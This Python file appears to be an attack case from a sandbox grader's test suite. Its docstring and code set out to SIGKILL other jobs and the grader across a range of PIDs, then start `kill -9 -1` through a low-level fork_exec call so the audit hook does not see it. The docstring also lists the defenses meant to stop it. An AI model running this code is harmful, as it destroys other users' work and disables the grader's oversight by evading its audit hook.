"""Attack: SIGKILL every process in sight (other submissions' jobs, the grader), by Python's os.kill
and by a `kill -9 -1` started where the audit hook cannot see it. Only fired where its process is PID
1 of a PID namespace (the sandbox): on a bare machine `kill -9 -1` would end every process of the user.

Defeated by: the audit hook refuses os.kill on other processes; in the sandbox a job sees only its own
PID namespace, so `kill -1` reaches nothing else, and its watcher sees the process it started.
Needs: sandbox
Reason: tried to signal another process|started a process
"""

import os as _os
import signal as _signal

for _pid in range(1, 400):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
for _target in (_os.getppid(), 0):
    try:
        _os.killpg(_target, _signal.SIGINT)
    except OSError:
        pass

if _os.getpid() == 1:
    import _posixsubprocess
    import subprocess as _subprocess

    _read, _write = _os.pipe()
    _arguments = [[b"/bin/kill", b"-9", b"-1"], [b"/bin/kill"], True, (_write,), None, None,
                  -1, -1, -1, -1, -1, -1, _read, _write, True, False, -1, None, None, None, -1, None]
    for _extra in ([getattr(_subprocess, "_USE_VFORK", True)], []):
        try:
            _posixsubprocess.fork_exec(*_arguments, *_extra)
            break
        except TypeError:
            continue
    import time as _time

    _time.sleep(1)
